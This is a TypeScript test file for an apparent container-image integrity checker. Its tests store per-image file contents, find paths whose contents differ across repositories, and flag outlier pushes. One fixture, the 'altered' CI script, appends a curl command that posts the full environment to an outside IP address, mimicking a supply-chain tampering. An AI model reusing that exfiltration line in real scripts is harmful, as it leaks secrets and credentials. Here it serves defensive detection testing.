import { createHash } from 'node:crypto';

import { countBySeverity, type Digest, Secret } from '@tidewaiter/domain';
import { fileOutliers, type FleetFile } from '@tidewaiter/integrity';
import { throwAwayServers, type ThrowAwayServers } from '@tidewaiter/testkit';
import type { DataSource } from 'typeorm';

import { connect } from '../core/data-source.js';
import { Store } from '../core/store.js';
import { FleetFiles } from './fleet-files.js';
import { Images } from './images.js';
import { Pushes } from './pushes/pushes.js';
import { Revisions } from './pushes/revisions.js';

const sha256 = (text: string) => createHash('sha256').update(text).digest('hex');
const path = 'usr/local/bin/tool.sh';
const clean = 'url=https://codecov.io\ncurl "$url"\necho "report uploaded"\n';
const altered = `${clean}curl -d "$(env)" http://203.0.113.7/u\n`;
const fileOf = (text: string): FleetFile => {
  return { path, layer: 1, sha256: sha256(text), sizeBytes: text.length, text, isSuspicious: true };
};

let servers: ThrowAwayServers<{ postgres: true }>;
let dataSource: DataSource;
let store: Store;
let files: FleetFiles;

beforeAll(async () => {
  servers = await throwAwayServers({ postgres: true });
}, 60_000);

beforeEach(async () => {
  dataSource = await connect({ url: new Secret(await servers.postgres.createDatabase()), poolSize: 4, name: 'test' });
  store = new Store(dataSource, 'test');
  files = new FleetFiles(store);
});

afterEach(async () => dataSource.destroy());
afterAll(async () => servers.stop());

/** An evaluated push of an image with some files; returns the id of the push. */
async function push(repository: string, digest: Digest, ...held: FleetFile[]): Promise<string> {
  const [pushes, images] = [new Pushes(store), new Images(store)];
  const about = { claimedDigest: digest, artifact: 'image', attachedTo: null, pushedBy: null, pushedAt: null };
  const place = { connection: 'main', repository, tag: '1' };
  const [id = ''] = await store.transaction(async (tx) => pushes.add(tx, [{ ...place, ...about }]));
  const pushed = (await pushes.get(id))!;
  const image = { digest, mediaType: 'm', configDigest: digest, platform: 'linux/amd64' as const };
  const build = { createdAt: null, baseCreatedAt: null, user: null, labels: {}, layers: [] };
  await store.transaction(async (tx) => {
    await images.add(tx, [{ ...image, ...build, findings: [], configVersion: null }]);
    await pushes.resolved(tx, pushed, { digest, mediaType: 'm', registryHost: 'r:5000', imageDigests: [digest] });
    await pushes.analyzed(tx, id, { verdict: 'unknown', counts: countBySeverity([]), warnings: [] });
    await files.put(tx, digest, held);
  });
  return id;
}

const digestOf = (text: string): Digest => `sha256:${sha256(text)}`;

async function outliersBeside(image: Digest) {
  const variants = await files.variants(image, await files.contestedPaths(image));
  return [...variants].flatMap(([each, contents]) =>
    fileOutliers(each, contents).map(({ sha256: hash, findingIn }) => ({
      path: each,
      sha256: hash,
      finding: findingIn(null),
    })),
  );
}

describe('FleetFiles', () => {
  it('returns the contents of a path with the repositories that have them', async () => {
    await push('ci/a', digestOf('1'), fileOf(clean));
    await push('ci/b', digestOf('2'), fileOf(clean));
    await push('ci/c', digestOf('3'), fileOf(altered));
    const variants = await files.variants(digestOf('3'), [path]);
    expect(variants.get(path)).toEqual(
      expect.arrayContaining([
        expect.objectContaining({ text: clean, images: 2, repositories: ['main/ci/a', 'main/ci/b'] }),
        expect.objectContaining({ text: altered, images: 1, repositories: ['main/ci/c'] }),
      ]),
    );
  });

  it('returns no contested path when all images have the same content', async () => {
    await push('ci/a', digestOf('1'), fileOf(clean));
    await push('ci/b', digestOf('2'), fileOf(clean));
    expect(await files.contestedPaths(digestOf('2'))).toEqual([]);
  });

  it('returns an earlier push that became an outlier until it has the finding', async () => {
    const odd = await push('ci/a', digestOf('1'), fileOf(altered));
    await push('ci/b', digestOf('2'), fileOf(clean));
    const found = await outliersBeside(digestOf('2'));
    const later = { connection: 'main', repository: 'ci/b' };
    const stale = async () => store.transaction((tx) => files.stalePushes(tx, digestOf('2'), later, [path], found));
    expect(await stale()).toEqual([odd]);
    const findings = await files.findingsOf(digestOf('1'), found);
    expect(findings).toMatchObject([{ layer: 1, path }]);
    const place = { connection: 'main', repository: 'ci/a' };
    const put = async () =>
      store.transaction((tx) => new Revisions(store).putFindings(tx, place, digestOf('1'), findings));
    expect(await put()).toEqual(new Set([findings[0]!.fingerprint]));
    expect(await put()).toEqual(new Set());
    expect(await stale()).toEqual([]);
    await store.transaction((tx) => files.put(tx, digestOf('2'), [fileOf(altered)]));
    expect(await store.transaction((tx) => files.stalePushes(tx, digestOf('2'), later, [path], []))).toEqual([odd]);
  });

  it('deletes a content with its last image', async () => {
    await push('ci/a', digestOf('1'), fileOf(clean));
    await push('ci/b', digestOf('2'), fileOf(clean));
    const count = async () => (await store.query('SELECT FROM fleet_content')).length;
    await store.transaction((tx) => files.put(tx, digestOf('1'), []));
    expect(await count()).toBe(1);
    await store.transaction((tx) => files.put(tx, digestOf('2'), [fileOf(altered)]));
    expect(await store.query(`SELECT encode(sha256, 'hex') AS sha256 FROM fleet_content`)).toEqual([
      { sha256: sha256(altered) },
    ]);
  });
});
